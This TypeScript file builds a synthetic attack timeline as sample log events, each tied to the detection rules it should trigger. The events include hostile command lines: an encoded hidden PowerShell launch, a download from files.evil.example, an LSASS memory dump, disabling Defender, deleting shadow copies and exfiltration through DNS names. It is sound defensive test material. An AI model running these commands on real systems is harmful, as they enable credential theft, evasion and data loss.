// The attack among the sample events. Lena opens a document at 09:12; by noon somebody has taken
// credentials from a file server, tried the cloud with them, and is about to leave with the invoices.

import { HOUR, MINUTE, SECOND, type Instant } from '#kernel/time.ts'
import {
  CLOUDTRAIL,
  DNS,
  ENTRA_SIGN_IN,
  OKTA,
  PROXY,
  sampleEvent,
  WINDOWS_PROCESS,
  WINDOWS_SECURITY,
  type LogSource,
  type SampleEvent,
} from './event.ts'

export interface Scene {
  readonly event: SampleEvent
  /** What happens, for people. */
  readonly told: string
  /** Files of the starter rules that fire when it does. */
  readonly fires: readonly string[]
}

const LENA = { Computer: 'wks-014.acme.example', User: 'ACME\\lena' }
const SERVER = { Computer: 'srv-fs01.acme.example', User: 'NT AUTHORITY\\SYSTEM' }
const POWERSHELL = 'C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe'
const SYSTEM32 = 'C:\\Windows\\System32\\'
const STRANGER = '203.0.113.7'
const ADMIN = { arn: 'arn:aws:iam::111122223333:user/lena', userName: 'lena', type: 'IAMUser' }
const DEPLOY = { arn: 'arn:aws:iam::111122223333:user/ci-deploy', userName: 'ci-deploy' }

const SCENES: readonly {
  /** Of the day, UTC. */
  readonly at: string
  readonly logsource: LogSource
  readonly fields: Readonly<Record<string, unknown>>
  readonly told: string
  readonly fires: readonly string[]
}[] = [
  {
    at: '09:12:00',
    logsource: WINDOWS_PROCESS,
    fields: {
      ...LENA,
      ParentImage: 'C:\\Program Files\\Microsoft Office\\root\\Office16\\WINWORD.EXE',
      Image: POWERSHELL,
      CommandLine: 'powershell -nop -w hidden -enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQA',
    },
    told: 'Lena opens an invoice; Word starts a hidden PowerShell',
    fires: [
      'windows/office-starts-a-script-host.yml',
      'windows/powershell-runs-an-encoded-command.yml',
    ],
  },
  {
    at: '09:12:04',
    logsource: PROXY,
    fields: {
      'c-ip': '10.20.1.14',
      'cs-username': 'lena',
      'c-useragent': 'Mozilla/5.0 (Windows NT; Windows NT 10.0; en-GB) WindowsPowerShell/5.1',
      'c-uri': 'http://files.evil.example/u.exe',
      'r-dns': 'files.evil.example',
    },
    told: 'It fetches a program',
    fires: ['network/proxy-powershell-downloads-a-program.yml'],
  },
  {
    at: '09:12:35',
    logsource: { category: 'registry_set', product: 'windows' },
    fields: {
      ...LENA,
      Image: POWERSHELL,
      TargetObject: 'HKU\\S-1-5-21-1\\Software\\Microsoft\\Windows\\CurrentVersion\\Run\\Updater',
      Details: 'C:\\Users\\Public\\u.exe',
    },
    told: 'which shall start with Windows',
    fires: ['windows/run-key-set-by-a-script-host.yml'],
  },
  {
    at: '09:30:35',
    logsource: WINDOWS_SECURITY,
    fields: {
      EventID: 4769,
      TargetUserName: 'lena@ACME.EXAMPLE',
      ServiceName: 'svc-backup',
      TicketEncryptionType: '0x17',
      Status: '0x0',
      IpAddress: '10.20.1.14',
    },
    told: 'A ticket for the backup account is asked for, to be broken at leisure',
    fires: ['windows/service-ticket-with-weak-encryption.yml'],
  },
  {
    at: '10:17:35',
    logsource: { product: 'windows', service: 'system' },
    fields: {
      Provider_Name: 'Service Control Manager',
      EventID: 7045,
      Computer: SERVER.Computer,
      ServiceName: 'PSEXESVC',
      ImagePath: '%SystemRoot%\\PSEXESVC.exe',
    },
    told: 'With its password somebody moves to the file server',
    fires: ['windows/psexec-service-installed.yml'],
  },
  {
    at: '10:17:55',
    logsource: WINDOWS_PROCESS,
    fields: { ...SERVER, Image: `${SYSTEM32}whoami.exe`, CommandLine: 'whoami /all' },
    told: 'and asks who they are now',
    fires: ['windows/whoami-as-system.yml'],
  },
  {
    at: '10:20:55',
    logsource: WINDOWS_PROCESS,
    fields: {
      ...SERVER,
      Image: POWERSHELL,
      CommandLine: 'powershell Set-MpPreference -DisableRealtimeMonitoring $true',
    },
    told: 'Protection is switched off',
    fires: ['windows/defender-weakened-by-powershell.yml'],
  },
  {
    at: '10:21:35',
    logsource: WINDOWS_PROCESS,
    fields: {
      ...SERVER,
      Image: `${SYSTEM32}rundll32.exe`,
      CommandLine:
        'rundll32 C:\\windows\\system32\\comsvcs.dll, MiniDump 712 C:\\ProgramData\\a.bin full',
    },
    told: 'the memory of LSASS is written to a file',
    fires: ['windows/lsass-dumped-by-comsvcs.yml'],
  },
  {
    at: '10:23:35',
    logsource: WINDOWS_PROCESS,
    fields: {
      ...SERVER,
      Image: `${SYSTEM32}schtasks.exe`,
      CommandLine:
        'schtasks /create /tn Updater /tr C:\\Users\\Public\\u.exe /sc minute /mo 15 /ru SYSTEM',
    },
    told: 'and a task makes sure to come back',
    fires: ['windows/scheduled-task-runs-from-a-user-folder.yml'],
  },
  {
    at: '10:58:35',
    logsource: CLOUDTRAIL,
    fields: {
      eventSource: 'iam.amazonaws.com',
      eventName: 'CreateAccessKey',
      userIdentity: ADMIN,
      requestParameters: { userName: 'ci-deploy' },
      sourceIPAddress: STRANGER,
    },
    told: 'In the cloud, as Lena, they make a key for the account that deploys',
    fires: ['aws/aws-access-key-for-somebody-else.yml'],
  },
  {
    at: '11:00:35',
    logsource: CLOUDTRAIL,
    fields: {
      eventSource: 'cloudtrail.amazonaws.com',
      eventName: 'StopLogging',
      userIdentity: DEPLOY,
      sourceIPAddress: STRANGER,
    },
    told: 'stop the trail',
    fires: ['aws/aws-cloudtrail-stopped.yml'],
  },
  {
    at: '11:05:35',
    logsource: CLOUDTRAIL,
    fields: {
      eventSource: 's3.amazonaws.com',
      eventName: 'DeleteBucketPublicAccessBlock',
      userIdentity: DEPLOY,
      requestParameters: { bucketName: 'acme-invoices' },
      sourceIPAddress: STRANGER,
    },
    told: 'and open the bucket of invoices',
    fires: ['aws/aws-bucket-opened-to-the-public.yml'],
  },
  {
    at: '11:14:35',
    logsource: DNS,
    fields: {
      src_ip: '10.20.0.5',
      query: 'nq2gk3tfmnzgk5dtonxw2zjanfxhi3zaobzg63tpoq4gs2lomy2a.t.evil.example',
    },
    told: 'What the server holds leaves in names',
    fires: ['network/dns-very-long-name.yml'],
  },
  {
    at: '11:26:35',
    logsource: WINDOWS_PROCESS,
    fields: {
      ...SERVER,
      Image: `${SYSTEM32}vssadmin.exe`,
      CommandLine: 'vssadmin.exe Delete Shadows /All /Quiet',
    },
    told: 'Before the end the way back is taken',
    fires: ['windows/shadow-copies-deleted.yml'],
  },
  {
    at: '11:27:35',
    logsource: WINDOWS_SECURITY,
    fields: {
      Provider_Name: 'Microsoft-Windows-Eventlog',
      EventID: 1102,
      Computer: SERVER.Computer,
      SubjectUserName: 'svc-backup',
    },
    told: 'and the log is cleared',
    fires: ['windows/security-log-cleared.yml'],
  },
]

/** In the order of their times. `day` is midnight of the day it happens, UTC. */
export function attackStory(day: Instant): readonly Scene[] {
  const scenes = SCENES.map(({ at, logsource, fields, told, fires }) => {
    const [hours = 0, minutes = 0, seconds = 0] = at.split(':').map(Number)
    const offsetMs = hours * HOUR + minutes * MINUTE + seconds * SECOND
    return { event: sampleEvent(day + offsetMs, logsource, fields), told, fires }
  })
  const all = [
    ...scenes,
    ...sprayed(day + 10 * HOUR + 25 * MINUTE),
    ...pushed(day + 10 * HOUR + 40 * MINUTE),
  ]
  return all.toSorted((a, b) => (a.event['@timestamp'] < b.event['@timestamp'] ? -1 : 1))
}

const SPRAYED_COUNT = 12

/** One password for everybody, from one address. */
function sprayed(from: number): readonly Scene[] {
  return Array.from({ length: SPRAYED_COUNT }, (_, index) => ({
    event: sampleEvent(from + index * 45 * SECOND, ENTRA_SIGN_IN, {
      ResultType: 50126,
      UserPrincipalName: `person${String(index + 1).padStart(2, '0')}@acme.example`,
      IPAddress: STRANGER,
    }),
    told: 'Somebody tries one password on everybody',
    // The tenth address; a rule that others count does not alert itself.
    fires: index === 9 ? ['azure/entra-password-spray.yml'] : [],
  }))
}

const PUSHED_COUNT = 5

/** Lena's password was the one; now they want her to accept. */
function pushed(from: number): readonly Scene[] {
  return Array.from({ length: PUSHED_COUNT }, (_, index) => ({
    event: sampleEvent(from + index * 50 * SECOND, OKTA, {
      eventType: 'user.mfa.okta_verify.deny_push',
      outcome: { result: 'FAILURE' },
      actor: { alternateId: 'lena@acme.example' },
      client: { ipAddress: STRANGER },
    }),
    told: 'Lena denies a push, again and again',
    fires: index === PUSHED_COUNT - 1 ? ['okta/okta-push-fatigue.yml'] : [],
  }))
}
